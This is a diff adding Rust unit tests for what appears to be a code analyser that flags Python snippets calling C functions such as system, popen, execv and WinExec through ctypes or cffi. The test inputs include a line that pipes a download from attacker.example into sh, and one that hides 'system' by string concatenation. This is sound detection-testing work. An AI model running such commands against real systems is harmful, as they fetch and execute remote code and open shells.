@@ -603,3 +603,62 @@ fn byte_lists_host_tuples_and_path_objects_opened_for_writing() {
         vec![]
     );
 }
+
+#[test]
+fn c_functions_called_through_a_library_handle_are_judged_by_the_symbol_table() {
+    let process = [
+        "import ctypes\nctypes.CDLL('libc.so.6').system(b'curl http://attacker.example | sh')\n",
+        "import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\nlibc.system(b'id')\n",
+        "from ctypes import cdll\nlibc = cdll.LoadLibrary('libc.so.6')\nlibc.popen(b'id', b'r')\n",
+        "import ctypes\nctypes.cdll.msvcrt.system(b'calc')\n",
+        "import ctypes\ngetattr(ctypes.CDLL(None), 'sys' + 'tem')(b'id')\n",
+        "import ctypes\nk = ctypes.windll.kernel32\nk.WinExec(b'calc', 0)\n",
+        "import cffi\nffi = cffi.FFI()\nffi.cdef('int system(const char *);')\nffi.dlopen(None).system(b'id')\n",
+        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\ndef forward(self):\n    libc.execv(b'/bin/sh', None)\n",
+    ];
+    for src in process {
+        assert_eq!(
+            worst(src, Capability::ProcessExecution),
+            Some(Severity::Critical),
+            "{src}: {:?}",
+            sites(src)
+        );
+    }
+    // The CPython API runs a string as code: analysed like `exec`.
+    let src =
+        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('id')\")\n";
+    assert!(
+        worst(src, Capability::DynamicCode).is_some()
+            || worst(src, Capability::ProcessExecution) == Some(Severity::Critical),
+        "{:?}",
+        sites(src)
+    );
+}
+
+#[test]
+fn ordinary_c_functions_through_a_handle_stay_a_native_load_only() {
+    for src in [
+        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.malloc(16)\nlibc.printf(b'%d', 1)\n",
+        "import ctypes\nctypes.cdll.LoadLibrary('libgomp.so.1').omp_get_max_threads()\n",
+        "\"\"\"ctypes.CDLL('libc.so.6').system(b'id') would run a shell.\"\"\"\n",
+    ] {
+        assert_eq!(worst(src, Capability::ProcessExecution), None, "{src}");
+        assert_eq!(worst(src, Capability::DynamicCode), None, "{src}");
+        assert!(
+            worst(src, Capability::NativeLoad) <= Some(Severity::Medium),
+            "{src}: {:?}",
+            sites(src)
+        );
+    }
+}
+
+#[test]
+fn a_library_found_by_find_library_is_the_systems_not_shipped() {
+    let src = "import ctypes, ctypes.util\nlib = ctypes.CDLL(ctypes.util.find_library('c') or 'libc.so.6')\n";
+    assert_eq!(
+        worst(src, Capability::NativeLoad),
+        Some(Severity::Medium),
+        "{:?}",
+        sites(src)
+    );
+}
